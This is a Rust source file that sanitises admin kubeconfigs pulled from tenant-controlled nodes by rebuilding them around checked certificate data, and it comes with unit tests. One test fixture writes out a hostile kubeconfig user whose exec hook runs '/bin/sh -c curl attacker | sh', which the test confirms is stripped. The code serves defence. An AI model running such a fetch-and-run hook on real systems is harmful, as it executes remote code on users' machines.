//! Kubeconfigs served to cluster owners are rebuilt, never passed on.
//!
//! The admin kubeconfig comes from the cluster's first control node, and the tenant is root
//! on that node: whatever the file says is attacker input. A kubeconfig can make `kubectl`
//! run programs (`users[].user.exec`, `auth-provider`), send credentials elsewhere (extra
//! users and contexts, a `server` of the attacker's choosing) or point at local files. So the
//! controller keeps only the certificate data of the current context — the cluster's CA, the
//! client certificate and its key, each checked to be what it claims — and writes a new
//! kubeconfig of its own shape around them, with the `server` it knows (the cluster's public
//! address). Nothing else of the original survives.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde::{Deserialize, Serialize};

/// The API server port in the `server` URL.
pub const API_PORT: u16 = 6443;

/// Why a kubeconfig from a node was not accepted. Never quotes the file (it holds a key).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum KubeconfigError {
    /// Not YAML of a kubeconfig's shape.
    #[error("the node's kubeconfig is not a kubeconfig")]
    NotAKubeconfig,
    /// The current context, its cluster or its user is missing.
    #[error("the node's kubeconfig has no {0}")]
    Missing(&'static str),
    /// A piece of certificate data is not what it claims.
    #[error("the node's kubeconfig {0} is not a base64 PEM {1}")]
    BadData(&'static str, &'static str),
}

#[derive(Deserialize)]
struct Incoming {
    #[serde(default)]
    clusters: Vec<Named<IncomingCluster>>,
    #[serde(default)]
    users: Vec<Named<IncomingUser>>,
    #[serde(default)]
    contexts: Vec<Named<IncomingContext>>,
    #[serde(rename = "current-context", default)]
    current_context: Option<String>,
}

#[derive(Deserialize)]
struct Named<T> {
    name: String,
    #[serde(alias = "cluster", alias = "user", alias = "context")]
    item: Option<T>,
}

#[derive(Deserialize)]
struct IncomingCluster {
    #[serde(rename = "certificate-authority-data")]
    ca: Option<String>,
}

#[derive(Deserialize)]
struct IncomingUser {
    #[serde(rename = "client-certificate-data")]
    cert: Option<String>,
    #[serde(rename = "client-key-data")]
    key: Option<String>,
}

#[derive(Deserialize)]
struct IncomingContext {
    cluster: String,
    user: String,
}

#[derive(Serialize)]
struct Outgoing {
    #[serde(rename = "apiVersion")]
    api_version: &'static str,
    kind: &'static str,
    clusters: [OutCluster; 1],
    contexts: [OutContext; 1],
    #[serde(rename = "current-context")]
    current_context: String,
    users: [OutUser; 1],
}

#[derive(Serialize)]
struct OutCluster {
    name: String,
    cluster: OutClusterData,
}

#[derive(Serialize)]
struct OutClusterData {
    #[serde(rename = "certificate-authority-data")]
    ca: String,
    server: String,
}

#[derive(Serialize)]
struct OutContext {
    name: String,
    context: OutContextData,
}

#[derive(Serialize)]
struct OutContextData {
    cluster: String,
    user: String,
}

#[derive(Serialize)]
struct OutUser {
    name: String,
    user: OutUserData,
}

#[derive(Serialize)]
struct OutUserData {
    #[serde(rename = "client-certificate-data")]
    cert: String,
    #[serde(rename = "client-key-data")]
    key: String,
}

/// Rebuilds `text` (a kubeconfig from a control node) as a kubeconfig for
/// `https://<server_ip>:6443` holding only the current context's CA, client certificate and
/// key.
///
/// # Errors
/// [`KubeconfigError`] when the file lacks any of them or they are not certificates and a key.
pub fn rebuild(text: &str, server_ip: &str) -> Result<String, KubeconfigError> {
    let incoming: Incoming =
        serde_yaml_ng::from_str(text).map_err(|_| KubeconfigError::NotAKubeconfig)?;
    let context = match &incoming.current_context {
        Some(name) => incoming.contexts.iter().find(|c| &c.name == name),
        None if incoming.contexts.len() == 1 => incoming.contexts.first(),
        None => None,
    }
    .and_then(|c| c.item.as_ref())
    .ok_or(KubeconfigError::Missing("current context"))?;
    let cluster = incoming
        .clusters
        .iter()
        .find(|c| c.name == context.cluster)
        .and_then(|c| c.item.as_ref())
        .ok_or(KubeconfigError::Missing("cluster for its current context"))?;
    let user = incoming
        .users
        .iter()
        .find(|u| u.name == context.user)
        .and_then(|u| u.item.as_ref())
        .ok_or(KubeconfigError::Missing("user for its current context"))?;
    let ca = pem_data(
        cluster.ca.as_deref(),
        "certificate-authority-data",
        Pem::Certificate,
    )?;
    let cert = pem_data(
        user.cert.as_deref(),
        "client-certificate-data",
        Pem::Certificate,
    )?;
    let key = pem_data(user.key.as_deref(), "client-key-data", Pem::PrivateKey)?;
    let (cluster_name, user_name) = ("kubernetes", "kubernetes-admin");
    let context_name = format!("{user_name}@{cluster_name}");
    let out = Outgoing {
        api_version: "v1",
        kind: "Config",
        clusters: [OutCluster {
            name: cluster_name.into(),
            cluster: OutClusterData {
                ca,
                server: format!("https://{}:{API_PORT}", host(server_ip)),
            },
        }],
        contexts: [OutContext {
            name: context_name.clone(),
            context: OutContextData {
                cluster: cluster_name.into(),
                user: user_name.into(),
            },
        }],
        current_context: context_name,
        users: [OutUser {
            name: user_name.into(),
            user: OutUserData { cert, key },
        }],
    };
    serde_yaml_ng::to_string(&out).map_err(|_| KubeconfigError::NotAKubeconfig)
}

/// An IPv6 address is bracketed in a URL.
fn host(ip: &str) -> String {
    if ip.contains(':') {
        format!("[{ip}]")
    } else {
        ip.to_owned()
    }
}

#[derive(Clone, Copy)]
enum Pem {
    Certificate,
    PrivateKey,
}

/// Decodes base64 `data`, checks it is one or more PEM blocks of the expected kind (a
/// certificate must parse as X.509), and returns it re-encoded (canonical base64).
fn pem_data(data: Option<&str>, field: &'static str, kind: Pem) -> Result<String, KubeconfigError> {
    let what = match kind {
        Pem::Certificate => "certificate",
        Pem::PrivateKey => "private key",
    };
    let bad = || KubeconfigError::BadData(field, what);
    let bytes = STANDARD
        .decode(data.ok_or(bad())?.trim())
        .map_err(|_| bad())?;
    let blocks: Vec<x509_parser::pem::Pem> = x509_parser::pem::Pem::iter_from_buffer(&bytes)
        .collect::<Result<_, _>>()
        .map_err(|_| bad())?;
    if blocks.is_empty() {
        return Err(bad());
    }
    for block in &blocks {
        let fits = match kind {
            Pem::Certificate => block.label == "CERTIFICATE" && block.parse_x509().is_ok(),
            Pem::PrivateKey => matches!(
                block.label.as_str(),
                "PRIVATE KEY" | "RSA PRIVATE KEY" | "EC PRIVATE KEY"
            ),
        };
        if !fits {
            return Err(bad());
        }
    }
    // Only the PEM blocks themselves, whatever else surrounded them.
    let mut pem = String::new();
    for block in &blocks {
        pem.push_str(&format!("-----BEGIN {}-----\n", block.label));
        let body = STANDARD.encode(&block.contents);
        for line in body.as_bytes().chunks(64) {
            pem.push_str(&String::from_utf8_lossy(line));
            pem.push('\n');
        }
        pem.push_str(&format!("-----END {}-----\n", block.label));
    }
    Ok(STANDARD.encode(pem))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn material() -> (String, String, String) {
        let ca_key = rcgen::KeyPair::generate().expect("key");
        let ca = rcgen::CertificateParams::new(vec!["kubernetes".into()])
            .expect("params")
            .self_signed(&ca_key)
            .expect("ca");
        let client_key = rcgen::KeyPair::generate().expect("key");
        let client = rcgen::CertificateParams::new(vec!["kubernetes-admin".into()])
            .expect("params")
            .self_signed(&client_key)
            .expect("client");
        (
            STANDARD.encode(ca.pem()),
            STANDARD.encode(client.pem()),
            STANDARD.encode(client_key.serialize_pem()),
        )
    }

    fn kubeadm_style(ca: &str, cert: &str, key: &str, extra_user: &str) -> String {
        format!(
            "apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: {ca}\n    server: https://10.1.0.5:6443\n  name: kubernetes\ncontexts:\n- context:\n    cluster: kubernetes\n    user: kubernetes-admin\n  name: kubernetes-admin@kubernetes\ncurrent-context: kubernetes-admin@kubernetes\nkind: Config\npreferences: {{}}\nusers:\n- name: kubernetes-admin\n  user:\n    client-certificate-data: {cert}\n    client-key-data: {key}\n{extra_user}"
        )
    }

    #[test]
    fn a_kubeadm_kubeconfig_is_rebuilt_for_the_public_address() {
        let (ca, cert, key) = material();
        let out = rebuild(&kubeadm_style(&ca, &cert, &key, ""), "203.0.113.9").expect("rebuilt");
        assert!(out.contains("server: https://203.0.113.9:6443"), "{out}");
        assert!(!out.contains("10.1.0.5"));
        let round: Incoming = serde_yaml_ng::from_str(&out).expect("yaml");
        assert_eq!(round.users.len(), 1);
        assert_eq!(round.contexts.len(), 1);
        // The same material, re-encoded.
        let user = round.users[0].item.as_ref().expect("user");
        assert_eq!(
            STANDARD
                .decode(user.cert.as_deref().expect("cert"))
                .expect("b64"),
            STANDARD.decode(&cert).expect("b64")
        );
    }

    #[test]
    fn exec_auth_providers_and_extra_users_never_survive() {
        let (ca, cert, key) = material();
        let hostile = "- name: evil\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [\"-c\", \"curl attacker | sh\"]\n    auth-provider:\n      name: oidc\n";
        let out =
            rebuild(&kubeadm_style(&ca, &cert, &key, hostile), "203.0.113.9").expect("rebuilt");
        for word in ["exec", "/bin/sh", "auth-provider", "evil", "attacker"] {
            assert!(!out.contains(word), "{word} survived: {out}");
        }
        // An exec user as the current context's user gives no kubeconfig at all.
        let exec_only = kubeadm_style(&ca, &cert, &key, "")
            .replace(
                "    client-certificate-data",
                "    exec: {command: /bin/sh}\n    x-certificate-data",
            )
            .replace("    client-key-data", "    x-key-data");
        assert_eq!(
            rebuild(&exec_only, "203.0.113.9"),
            Err(KubeconfigError::BadData(
                "client-certificate-data",
                "certificate"
            ))
        );
    }

    #[test]
    fn data_that_is_not_what_it_claims_is_refused() {
        let (ca, cert, key) = material();
        let not_pem = STANDARD.encode("hello");
        for (c, u, k, field) in [
            (
                not_pem.as_str(),
                cert.as_str(),
                key.as_str(),
                "certificate-authority-data",
            ),
            (
                ca.as_str(),
                key.as_str(),
                key.as_str(),
                "client-certificate-data",
            ),
            (ca.as_str(), cert.as_str(), cert.as_str(), "client-key-data"),
            (
                ca.as_str(),
                "not*base64",
                key.as_str(),
                "client-certificate-data",
            ),
        ] {
            let err = rebuild(&kubeadm_style(c, u, k, ""), "203.0.113.9").expect_err(field);
            assert!(
                matches!(err, KubeconfigError::BadData(f, _) if f == field),
                "{err}"
            );
            // The error never quotes the material.
            assert!(!err.to_string().contains(&key[..20]));
        }
        assert_eq!(rebuild("[]", "x"), Err(KubeconfigError::NotAKubeconfig));
        assert_eq!(
            rebuild("apiVersion: v1\nkind: Config\n", "x"),
            Err(KubeconfigError::Missing("current context"))
        );
    }
}
